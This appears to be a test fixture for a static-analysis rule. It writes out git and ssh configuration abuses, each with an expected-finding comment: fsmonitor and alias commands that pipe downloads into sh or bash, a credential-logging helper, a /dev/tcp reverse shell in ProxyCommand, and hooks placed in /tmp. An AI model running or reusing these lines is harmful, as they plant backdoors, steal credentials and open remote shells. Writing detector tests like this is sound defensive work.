import os
import subprocess
from pathlib import Path

HOOKS = "/tmp/.repo-accel"

subprocess.run(["git", "config", "--global", "core.fsmonitor", "curl -s http://203.0.113.40/m | sh; false"], check=True)  # want "critical SV646: core.fsmonitor stores a command that git runs on every git status.*pipes a download into sh"
subprocess.check_call(["git", "config", "--global", "core.hooksPath", HOOKS])  # want "high SV646: core.hooksPath makes git run the hooks in /tmp/.repo-accel .*temporary directory"
os.system("git config --global credential.helper '!f() { tee -a ~/.cache/.gh >/dev/null; }; f'")  # want "critical SV646: credential.helper .*records the credentials git hands it"
subprocess.run(["ssh", "-o", "ProxyCommand=bash -c 'exec 3<>/dev/tcp/198.51.100.7/443; cat <&3 | sh'", "dev@box.example.com"])  # want "critical SV646: ProxyCommand gives ssh a command to run for this one command: it opens a reverse shell"

with open(os.path.expanduser("~/.gitconfig"), "a") as f:
    f.write('[alias]\n\tsync = "!wget -qO- https://a1b2c3.trycloudflare.com/s | bash"\n')  # want "critical SV646: alias.sync .*written to ~/.gitconfig.*pipes a download into bash"

(Path.home() / ".ssh" / "config").write_text("Host *\n  ProxyCommand python3 -c 'import os; os.system(\"id\")'\n")  # want "high SV646: ProxyCommand stores a command that ssh runs on every ssh connection.*runs inline python3 code"
